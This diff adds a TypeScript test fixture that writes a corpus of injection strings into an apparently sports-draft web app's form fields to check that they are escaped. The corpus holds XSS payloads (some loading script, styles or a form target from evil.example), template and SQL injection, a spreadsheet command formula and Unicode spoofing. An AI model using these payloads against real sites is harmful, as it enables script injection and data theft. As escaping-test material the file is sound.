@@ -1,0 +1,129 @@
+/** Texts that would run, break out or mislead where a page takes them for more than text. All set `pwn` if they run. */
+export const CORPUS: readonly string[] = [
+  '<script>pwn=1</script>',
+  '<ScRiPt >pwn=1</sCrIpT >',
+  '<script src=//evil.example></script>',
+  '</script><script>pwn=1//',
+  '<img src=x onerror=pwn=1>',
+  '<img src=//evil.example/i.png>',
+  '"><img src=x onerror=pwn=1>',
+  "'><svg onload=pwn=1>",
+  '<svg><script>pwn=1</script></svg>',
+  '<svg/onload=pwn=1>',
+  '<math><a xlink:href=javascript:pwn=1>',
+  '<body onload=pwn=1>',
+  '<iframe srcdoc="<script>pwn=1">',
+  '<iframe src=javascript:pwn=1>',
+  '<details open ontoggle=pwn=1>',
+  '<input autofocus onfocus=pwn=1>',
+  '<a href="javascript:pwn=1">x</a>',
+  'javascript:pwn=1',
+  'JaVaScRiPt:pwn=1//',
+  'data:text/html,<script>pwn=1',
+  '" onmouseover="pwn=1" x="',
+  "' autofocus onfocus='pwn=1",
+  '</title><script>pwn=1',
+  '</textarea><script>pwn=1',
+  '</style><style>*{display:none}',
+  '<style>@import"//evil.example"',
+  '<base href=//evil.example>',
+  '<meta http-equiv=refresh content=0>',
+  '<form action=//evil.example><button>',
+  '<!--<i "--><img src=x onerror=pwn=1>',
+  '{{[].at.constructor("pwn=1")()}}',
+  '${pwn=1}`${pwn=1}`',
+  '<%= pwn=1 %>#{pwn=1}',
+  '&lt;script&gt;pwn=1&#x3c;',
+  '\\u003cscript\\u003epwn=1',
+  `=cmd|'/C calc'!A0`,
+  '\u202Etxt.exe\u202C <b>right to left',
+  'z\u200Be\u200Dr\u2060o\uFEFF w\u0301\u0302\u0303idth \u{1F469}\u200D\u{1F680}',
+  'W'.repeat(36),
+  "__proto__[pwn]=1;--' OR 1=1 /*",
+];
+
+/** No text runs into another one: each ends with the code of the field that it was written into. */
+export const CODES = {
+  'signUpBody.firstName': 'a1',
+  'signUpBody.lastName': 'a2',
+  'accountNamesBody.firstName': 'a3',
+  'accountNamesBody.lastName': 'a4',
+  'adminRoleBody.reason': 'b1',
+  'adminEndSessionBody.reason': 'b2',
+  'betaDecisionBody.reason': 'c1',
+  'betaSubmitBody.complexName': 'c2',
+  'betaSubmitBody.city': 'c3',
+  'betaSubmitBody.contactName': 'c4',
+  'betaDraftBody.complexName': 'd1',
+  'betaDraftBody.city': 'd2',
+  'betaDraftBody.contactName': 'd3',
+  'betaDraftBody.contactPhone': 'd4',
+  'contactBody.name': 'e1',
+  'contactBody.message': 'e2',
+  'closeTicketBody.note': 'e3',
+  'leagueBody.name': 'f1',
+  'leagueBody.season': 'f2',
+  'teamBody.name': 'f3',
+  'playerBody.firstName': 'g1',
+  'playerBody.lastName': 'g2',
+  'playerBody.hometown': 'g3',
+  'playerBody.comment': 'g4',
+  'playerBody.externalId': 'g5',
+  'noteBody.text': 'g6',
+  'withdrawBody.reason': 'g7',
+  'draft.commitOrder.reason': 'h1',
+  'draft.nonce.nonce': 'h2',
+  'draft.orderByHand.reason': 'h3',
+  'draft.pause.reason': 'h4',
+  'draft.pauseAfter.reason': 'h5',
+  'draft.undo.reason': 'h6',
+  'draft.reset.reason': 'h7',
+  'draft.reason.reason': 'h8',
+  'draft.settings.settings.limits.positions[].position': 'h9',
+} as const;
+export type TextField = keyof typeof CODES;
+
+/** Kept in the log; no page shows it. */
+export const UNSHOWN: readonly TextField[] = ['withdrawBody.reason'];
+
+/** Texts that open something and are compared, never kept. */
+export const SECRETS: readonly string[] = [
+  'confirmBody.token',
+  'newPasswordBody.token',
+  'newPasswordBody.password',
+  'signInBody.password',
+  'signUpBody.password',
+  'beginSecondFactorBody.password',
+  'changePasswordBody.password',
+  'changePasswordBody.newPassword',
+  'confirmSecondFactorBody.code',
+  'disableSecondFactorBody.password',
+  'disableSecondFactorBody.code',
+  'emailChangeBody.password',
+  'emailChangeLinkBody.token',
+  'eraseAccountBody.password',
+  'eraseAccountBody.code',
+  'secondFactorSignInBody.ticket',
+  'secondFactorSignInBody.code',
+  'draft.reset.confirmation',
+  // Whoever fills it is a program: its message is dropped.
+  'contactBody.website',
+];
+
+/** Names out of a list of ours: anything else is refused. */
+export const LISTED: readonly string[] = [
+  'betaDraftBody.sports[]',
+  'betaSubmitBody.sports[]',
+  'leagueBody.sport',
+  'leagueBody.zone',
+  'leagueBody.limits.positions[].position',
+  'playerBody.positions[]',
+  'draft.settings.settings.clock.zone',
+];
+
+/** A text of the corpus as it is written into a field. */
+export const textFor = (field: TextField, n: number): string => {
+  const text = CORPUS[n % CORPUS.length] ?? '';
+  const spaced = field === 'draft.nonce.nonce' ? text.replace(/[^\x21-\x7e]/g, '_') : text;
+  return `${spaced}~${CODES[field]}`;
+};
